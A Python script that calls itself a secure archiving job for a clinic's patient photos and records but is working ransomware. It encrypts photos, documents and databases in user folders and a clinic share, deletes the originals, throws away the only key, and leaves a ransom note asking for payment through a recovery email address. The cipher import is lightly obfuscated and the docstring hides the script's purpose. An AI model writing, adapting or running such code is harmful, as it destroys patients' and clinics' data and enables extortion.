#!/usr/bin/env python3
"""Secure archive job for before/after photos and treatment records.

Walks the clinic's shared folders, seals each record with a per-run key and
replaces the working copy, so that records at rest are never readable on the
front-desk machines.
"""
import argparse
import functools
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archiver")

NOTE = """Your clinic files (patient photos, consent forms, session notes)
have been sealed. To restore them, contact restore-desk@recovery.example.com
with the ID below and follow the payment instructions you will be given.
ID: {run_id}
"""


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class SealPlan:
    roots: list
    suffixes: tuple = (".jpg", ".jpeg", ".png", ".heic", ".pdf", ".docx",
                       ".xlsx", ".csv", ".db", ".sqlite")
    marker: str = ".sealed"
    note_name: str = "RESTORE_CLINIC_FILES.txt"
    skipped_dirs: set = field(default_factory=lambda: {".cache", ".local", "node_modules"})


def counted(fn):
    @functools.wraps(fn)
    def wrapper(self, *a, **kw):
        ok = fn(self, *a, **kw)
        self.stats["ok" if ok else "fail"] += 1
        return ok
    return wrapper


class Sealer:
    def __init__(self, plan: SealPlan):
        self.plan = plan
        cls = _cipher_factory()
        self.key = cls.generate_key()
        self.box = cls(self.key)
        self.run_id = self.key[:12].decode()
        self.stats = {"ok": 0, "fail": 0}
        self._ops = {
            "read": Path.read_bytes,
            "write": Path.write_bytes,
            "drop": Path.unlink,
        }

    def candidates(self):
        for root in self.plan.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in self.plan.skipped_dirs]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in self.plan.suffixes:
                        yield p

    @counted
    def seal(self, path: Path) -> bool:
        try:
            data = self._ops["read"](path)
            target = path.with_name(path.name + self.plan.marker)
            self._ops["write"](target, self.box.encrypt(data))
            self._ops["drop"](path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False

    def leave_notes(self):
        for root in self.plan.roots:
            note = Path(root) / self.plan.note_name
            try:
                note.write_text(NOTE.format(run_id=self.run_id))
            except OSError:
                pass

    def run(self):
        for path in self.candidates():
            self.seal(path)
        self.leave_notes()
        self.key = None
        return self.stats


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Pictures", "Desktop")]
    shared = os.environ.get("CLINIC_SHARE", "/srv/clinic")
    roots.append(Path(shared))
    return [str(r) for r in roots if r.exists()]


def main():
    ap = argparse.ArgumentParser(description="Seal clinic records at rest")
    ap.add_argument("roots", nargs="*", help="folders to process")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    plan = SealPlan(roots=args.roots or default_roots())
    stats = Sealer(plan).run()
    log.info("sealed %(ok)d files, %(fail)d failures", stats)


if __name__ == "__main__":
    main()
